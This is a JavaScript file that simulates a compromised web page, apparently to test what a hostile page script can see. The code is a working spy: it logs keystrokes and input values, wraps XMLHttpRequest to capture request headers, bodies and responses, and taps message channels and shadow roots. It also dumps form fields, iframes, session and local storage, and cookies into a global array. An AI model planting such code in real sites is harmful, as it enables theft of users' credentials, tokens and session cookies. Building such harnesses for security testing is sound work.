// A compromised page: it records everything that a script of the page can see.
window.spied = [];
const record = (...seen) => void window.spied.push(seen.map((each) => String(each)).join(' '));

for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'submit', 'message'])
  addEventListener(
    type,
    (event) => record(type, event.key, event.data && JSON.stringify(event.data), event.composedPath()[0]?.value),
    true,
  );

const { open, send, setRequestHeader } = XMLHttpRequest.prototype;
XMLHttpRequest.prototype.open = function (method, address, ...rest) {
  record('open', method, address);
  this.addEventListener('load', () => record('response', this.responseType === 'blob' ? '' : this.responseText));
  return open.call(this, method, address, ...rest);
};
XMLHttpRequest.prototype.send = function (body) {
  record('send', body);
  return send.call(this, body);
};
XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
  record('header', name, value);
  return setRequestHeader.call(this, name, value);
};

const RealChannel = MessageChannel;
window.MessageChannel = function () {
  const channel = new RealChannel();
  channel.port1.addEventListener('message', ({ data }) => record('port', JSON.stringify(data)));
  return channel;
};

const roots = [];
const { attachShadow } = Element.prototype;
Element.prototype.attachShadow = function (options) {
  const root = attachShadow.call(this, options);
  roots.push(root);
  return root;
};

// Reads what is on the page now: fields in all shadow roots, frames, and the storage of the page.
window.spyOut = () => {
  for (const root of [document, ...roots]) {
    for (const { value } of root.querySelectorAll('input')) record('field', value);
    for (const frame of root.querySelectorAll('iframe')) record('frame', frame.contentDocument);
  }
  record('stored', JSON.stringify({ ...sessionStorage }), JSON.stringify({ ...localStorage }), document.cookie);
  return window.spied;
};
